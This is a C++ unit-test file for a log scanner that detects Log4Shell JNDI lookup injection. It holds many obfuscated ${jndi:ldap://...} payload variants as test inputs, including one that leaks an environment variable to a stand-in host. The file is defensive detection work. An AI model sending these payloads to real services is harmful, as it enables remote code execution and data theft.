#include "scan/lookups.h"

#include "scan/hunt.h"

#include <gtest/gtest.h>

namespace tocsin::scan {
namespace {

TEST(Lookups, EveryWayOfWritingOneIsSeenThrough) {
  struct Row {
    std::string_view line;
    std::string_view want;  ///< "kind at normal", or "" for none
  };
  for (const Row& row : {
           Row{"GET /?q=${jndi:ldap://h/a} HTTP/1.1", "lookup 8 ${jndi:ldap://h/a}"},
           Row{"${JnDi:LDAP://h/a}", "lookup 0 ${JnDi:LDAP://h/a}"},
           Row{"${jndi:ldap://h/a", "lookup 0 ${jndi:ldap://h/a"},
           Row{"a ${${lower:J}${upper:n}di:x}", "lookup 2 ${jNdi:x}"},
           Row{"${${::-j}${:-n}${env:X:-d}${sys:a:-i}:x}", "lookup 0 ${jndi:x}"},
           Row{"${jn${env:EMPTY:-}di:x}", "lookup 0 ${jndi:x}"},
           Row{"${${date:'j'}ndi:x}", "lookup 0 ${jndi:x}"},
           Row{"${jnd${upper:\xC4\xB1}:x}", "lookup 0 ${jndI:x}"},
           Row{"${${base64:JHtqbmRpOng=}}", "lookup 2 ${jndi:x}"},
           Row{"${base64:JHtqbmRpOg==}x}", "lookup 0 ${jndi:x}"},
           Row{"${jn${base64:ZGk=}:x}", "lookup 0 ${jndi:x}"},
           Row{"$${a:-${b:-$}{jndi:x}}}", "lookup 6 ${jndi:x}"},
           Row{"${jndi:ldap://${env:USER}.h}", "lookup 0 ${jndi:ldap://${env:USER}.h}"},
           Row{"%24%7Bjndi:x%7D", "lookup 0 ${jndi:x}"},
           Row{"%2524%257Bjndi%253Ax%257D", "lookup 0 ${jndi:x}"},
           Row{"%25%32%34{jndi:x}", "lookup 0 ${jndi:x}"},
           Row{"%u0024%u007bjndi:x}", "lookup 0 ${jndi:x}"},
           Row{"&#36;&#x7B;jndi&colon;x}", "lookup 0 ${jndi:x}"},
           Row{"&dollar;&lbrace;jndi:x}", "lookup 0 ${jndi:x}"},
           Row{R"($\u007Bjndi:x})", "lookup 0 ${jndi:x}"},
           Row{R"(\\u0024\\u007Bjndi:x})", "lookup 0 ${jndi:x}"},
           Row{R"(\x24\x7bjndi:x})", "lookup 0 ${jndi:x}"},
           Row{R"({"m":"${jndi:ldap:\/\/h:1389\/a}"})", "lookup 6 ${jndi:ldap://h:1389/a}"},
           Row{R"(${jndi:ldap:\\/\\/h\\\/a})", "lookup 0 ${jndi:ldap://h/a}"},
           Row{R"(\u0024{jndi:ldap:\/\/h\/a})", "lookup 0 ${jndi:ldap://h/a}"},
           Row{R"(${jndi:ldap:%5C/%5C/h})", "lookup 0 ${jndi:ldap://h}"},
           Row{R"({"p":"\/a\/b\\","q":"$ {"})", ""},
           Row{R"($\u0026lbrace;other})", "hidden 0 ${"},
           Row{"$&lbrace;other}", ""},
           Row{"WARN Error looking up JNDI resource [ldap://h/a]. x",
               "executed 5 ${jndi:ldap://h/a}"},
           // Nothing of it is a lookup of a name.
           Row{"${GDPR} ${java:version} ${env:PATH:-/bin} $(cmd) ${x#{}}", ""},
           Row{"jndi:ldap://h/a and {jndi:x}", ""},
           Row{"${lower:jndi:x}", ""},
           Row{"${ctx:jndi:-x}", ""},
           Row{"100% of $5 & \\n {", ""},
           Row{"", ""},
           Row{"%", ""},
           Row{"&#;&#x;\\u12\\", ""},
       }) {
    SCOPED_TRACE(row.line);
    std::string got;
    for (const LineAttempt& attempt : attempts_in(row.line)) {
      got += got.empty() ? "" : "; ";
      got += std::string(to_text(attempt.kind)) + " " + std::to_string(attempt.at) + " " +
             attempt.normal;
    }
    EXPECT_EQ(got, row.want);
  }
}

TEST(Lookups, DepthHasABoundThatIsSaid) {
  const auto nested = [](std::size_t levels) {
    std::string line = "${jndi:x}";
    for (std::size_t i = 1; i < levels; ++i) {
      line = "${lower:" + line + "}";
    }
    return line;
  };
  const auto at_bound = attempts_in(nested(kLookupDepthMax));
  ASSERT_EQ(at_bound.size(), 1U);
  EXPECT_EQ(at_bound[0].kind, AttemptKind::lookup);
  const auto beyond = attempts_in(nested(kLookupDepthMax + 1));
  ASSERT_EQ(beyond.size(), 1U);
  EXPECT_EQ(beyond[0].kind, AttemptKind::deep);
}

TEST(Lookups, TargetIsHostAndPort) {
  struct Row {
    std::string_view normal;
    std::string_view host;
    std::string_view port;
  };
  for (const Row& row : {Row{"${jndi:ldap://h.example:1389/a}", "h.example", "1389"},
                         Row{"${jndi:ldap:/h.example/a}", "h.example", ""},
                         Row{"${jndi:ldap://user@h.example/a}", "h.example", ""},
                         Row{"${jndi:ldap://127.0.0.1#evil.example:80/a}", "127.0.0.1", ""},
                         Row{"${jndi:ldap://[::1]:53/a}", "[::1]", "53"},
                         Row{"${jndi:a${b:c}://h.example", "h.example", ""},
                         Row{"${jndi:name}", "", ""}, Row{"${", "", ""}, Row{"", "", ""}}) {
    SCOPED_TRACE(row.normal);
    const Target target = target_of(row.normal);
    EXPECT_EQ(target.host, row.host);
    EXPECT_EQ(target.port, row.port);
  }
}

TEST(Hunt, JsonsSlashesAreSlashes) {
  const HuntReport report =
      hunt_bytes(as_bytes(R"({"ua":"${jndi:ldap:\/\/h.example:1389\/a}"})"), "app.json");
  ASSERT_EQ(report.attempts.size(), 1U);
  EXPECT_EQ(report.attempts[0].normal, "${jndi:ldap://h.example:1389/a}");
  EXPECT_EQ(report.attempts[0].host, "h.example");
  EXPECT_EQ(report.attempts[0].port, "1389");
  EXPECT_EQ(report.attempts[0].column, 8U);
}

TEST(Hunt, PositionsAreThoseOfTheFile) {
  const std::string log = "first\n a ${jndi:x}\r\n\n%24{jndi:y} ${jndi:z}";
  const HuntReport report = hunt_bytes(as_bytes(log), "app.log");
  ASSERT_EQ(report.attempts.size(), 3U);
  EXPECT_EQ(report.attempts[0].line, 2U);
  EXPECT_EQ(report.attempts[0].column, 4U);
  EXPECT_EQ(report.attempts[1].line, 4U);
  EXPECT_EQ(report.attempts[1].column, 1U);
  EXPECT_EQ(report.attempts[2].column, 13U);
  EXPECT_EQ(report.lines, 4U);
}

TEST(Hunt, LongLinesAreReadInPiecesAndNothingIsSaidTwice) {
  // One attempt in the first piece, one across the cut, one in what both pieces see, one behind.
  const std::string attempt = "${jndi:x}";
  for (const std::size_t at :
       {std::size_t{0}, kLineBytesMax - kLineOverlapBytes - 4,
        kLineBytesMax - kLineOverlapBytes + 5, kLineBytesMax - 4, kLineBytesMax + 10}) {
    SCOPED_TRACE(at);
    std::string line(kLineBytesMax * 2, 'a');
    line.replace(at, attempt.size(), attempt);
    line += "\n${jndi:y}";
    const HuntReport report = hunt_bytes(as_bytes(line), "long.log");
    ASSERT_EQ(report.attempts.size(), 2U);
    EXPECT_EQ(report.attempts[0].column, at + 1);
    EXPECT_EQ(report.attempts[0].line, 1U);
    EXPECT_EQ(report.attempts[1].line, 2U);
    EXPECT_EQ(report.attempts[1].column, 1U);
  }
}

}  // namespace
}  // namespace tocsin::scan
